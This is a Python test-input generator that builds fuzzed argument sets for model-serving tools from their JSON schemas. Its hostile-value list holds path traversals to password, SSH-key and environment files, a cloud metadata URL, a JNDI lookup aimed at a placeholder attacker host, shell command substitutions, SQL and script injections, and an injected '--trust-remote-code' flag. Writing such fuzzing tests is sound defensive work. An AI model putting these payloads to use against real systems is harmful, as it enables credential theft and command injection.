"""Argument sets made from a tool's schema: valid, nearly valid, and hostile."""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

Schema = Mapping[str, Any]

# The small and the odd of the catalogue: dense, mixture, latent, hybrid, encoder.
MODELS = (
    "Qwen/Qwen3-8B",
    "Qwen/Qwen3-30B-A3B",
    "deepseek-ai/DeepSeek-V2-Lite",
    "meta-llama/Llama-3.1-8B-Instruct",
    "google/gemma-3-4b-it",
)
GPUS = ("H100", "L4", "RTX 4090", "A100-80GB", "B200", "T4")
FLAGS = (
    "-tp",
    "--max-model-len",
    "--gpu-memory-utilization",
    "--quantization",
    "--kv-cache-dtype",
    "--max-num-seqs",
    "--hf-overrides",
    "--speculative-config",
    "--no-such-flag",
)
LINES = (
    "INFO 11-20 10:00:00 [gpu_model_runner.py:3000] Model loading took 14.99 GiB and 3 seconds",
    "INFO 11-20 10:00:01 [kv_cache_utils.py:1087] GPU KV cache size: 476,016 tokens",
    "INFO 11-20 10:00:01 [gpu_worker.py:298] Available KV cache memory: 58.11 GiB",
    "ValueError: To serve at least one request with the models's max seq len (131072), 16.00 GiB",
    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.",
    "non-default args: {'model': '../../etc/passwd', 'tensor_parallel_size': 99999999}",
    "\x1b[31mred\x1b[0m \x00 \ud7ff GiB GiB GiB",
)
HOSTILE_TEXTS = (
    "",
    " ",
    "\x00",
    "\n\r\t",
    "../../../../etc/passwd",
    "/etc/passwd",
    "/proc/self/environ",
    "~root/.ssh/id_rsa",
    "..\\..\\windows\\win.ini",
    "..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "//evil.example.org/share",
    "evil.example.org/model",
    "a@evil.example.org/b",
    "{{7*7}}",
    "${jndi:ldap://evil.example.org/a}",
    "{0.__class__.__mro__}",
    "%s%s%s%n",
    "$(touch pwned)",
    "`touch pwned`",
    "'; DROP TABLE models; --",
    "<script>alert(1)</script>",
    "Qwen/Qwen3-8B\n--trust-remote-code",
    "Qwen/../Qwen/Qwen3-8B",
    "Qwen/Qwen3-8B/resolve/main/config.json",
    "models--Qwen--Qwen3-8B",
    "\u202egnitset",
    "İıſ",
    "é" * 300,
    "🦙" * 100,
    "x" * 20_000,
    "[" * 500,
    '{"a":' * 100,
    "NaN",
    "1e999",
    "-0",
    "0x10",
    "1_000",
    "١٢٣",
    "null",
    "true",
    "nobody/such-a-model",
)
HOSTILE_NUMBERS = (0, -1, 1, 2, 3, 2**31, 2**53 + 1, 2**63, 2**64, 10**30, -(10**30), 0.5, -0.0)
NOT_FINITE = (float("nan"), float("inf"), float("-inf"))
NOT_EXPECTED: tuple[Any, ...] = (None, True, False, [], {}, [1, "a"], {"a": {"b": [None]}})


def nested(depth: int) -> Any:
    """Lists in objects in lists, `depth` deep."""
    value: Any = 1
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


@dataclass
class Arguments:
    """A reproducible stream of argument sets for one tool.

    Attributes:
        schema: the tool's input schema.
        seed: the same seed makes the same sets.
        models: what counts as a usable model.
        finite: whether NaN and infinities are left out, as on a JSON wire.
    """

    schema: Schema
    seed: int
    models: tuple[str, ...] = MODELS
    finite: bool = False

    def __post_init__(self) -> None:
        self._random = random.Random(self.seed)
        self._properties: Mapping[str, Schema] = self.schema.get("properties", {})

    def sets(self, count: int) -> Iterator[dict[str, Any]]:
        """`count` sets."""
        for _ in range(count):
            yield self._one()

    def _one(self) -> dict[str, Any]:
        pick = self._random
        names = list(self._properties)
        required = list(self.schema.get("required", ()))
        # Most sets are nearly valid; the essentials are there more often than not.
        chosen = [name for name in (*required, "model", "gpu") if name in names]
        if self._properties.get("gpus", {}).get("type") == "string":
            # A comparison of the whole catalogue takes a second; two cards show as much.
            chosen += ["gpus", "max_gpus"]
        if pick.random() < 0.1:
            chosen = chosen[1:]
        chosen += pick.sample(names, min(len(names), pick.choice((0, 0, 1, 1, 2, 3, 6))))
        evil = pick.random() < 0.6
        given = {name: self._value(name, evil) for name in dict.fromkeys(chosen)}
        if pick.random() < 0.12:
            unknown = pick.choice((*HOSTILE_TEXTS, *(f"{name}s" for name in names)))
            given[unknown[:200]] = self._hostile()
        return given

    def _value(self, name: str, evil: bool) -> Any:
        pick = self._random
        if evil and pick.random() < 0.3:
            return self._hostile()
        if name == "model":
            return pick.choice(self.models)
        if name == "gpu":
            return pick.choice(GPUS)
        if name == "command":
            return self._command()
        if name == "log":
            return "\n".join(pick.choices((*LINES, *HOSTILE_TEXTS), k=pick.randint(0, 12)))
        schema = self._properties[name]
        if name == "gpus" and schema.get("type") == "string":
            return pick.choice((*GPUS, "H100, L4", "L4,L4,, nothing"))
        if name == "max_gpus":
            return pick.choice((0, 1, 2, 3, 99))
        alternatives = schema.get("anyOf")
        return self._of(pick.choice(alternatives) if alternatives else schema)

    def _of(self, schema: Schema) -> Any:
        pick = self._random
        if "enum" in schema:
            return pick.choice(schema["enum"])
        kind = schema.get("type")
        if kind == "boolean":
            return pick.choice((True, False, "true", "no"))
        if kind in ("integer", "number"):
            return self._number(schema, whole=kind == "integer")
        if kind == "array":
            return [self._of(schema.get("items", {})) for _ in range(pick.randint(0, 4))]
        if kind == "object":
            return {pick.choice(HOSTILE_TEXTS): pick.choice(HOSTILE_NUMBERS)}
        return pick.choice(("auto", "none", "fp8", "0.19.0", '{"image": 0}', "main"))

    def _number(self, schema: Schema, whole: bool) -> Any:
        pick = self._random
        least = schema.get("minimum", schema.get("exclusiveMinimum", 0))
        most = schema.get("maximum", schema.get("exclusiveMaximum", 10_000_000))
        value = pick.choice(
            (least, least - 1, least + 1, most, most + 1, 1, 2, 8, 16, 4096, 0.9, 32_768)
        )
        value = int(value) if whole and pick.random() < 0.9 else value
        return str(value) if pick.random() < 0.1 else value

    def _hostile(self) -> Any:
        pick = self._random
        numbers = HOSTILE_NUMBERS if self.finite else (*HOSTILE_NUMBERS, *NOT_FINITE)
        pool = pick.choice((HOSTILE_TEXTS, HOSTILE_TEXTS, numbers, NOT_EXPECTED, ()))
        return pick.choice(pool) if pool else nested(pick.choice((3, 20, 90)))

    def _command(self) -> str:
        pick = self._random
        words = ["vllm", "serve", pick.choice((*self.models, *HOSTILE_TEXTS))]
        for _ in range(pick.randint(0, 4)):
            words.append(pick.choice(FLAGS))
            words.append(str(pick.choice((*HOSTILE_TEXTS, *HOSTILE_NUMBERS, "fp8", "32k"))))
        return " ".join(words)
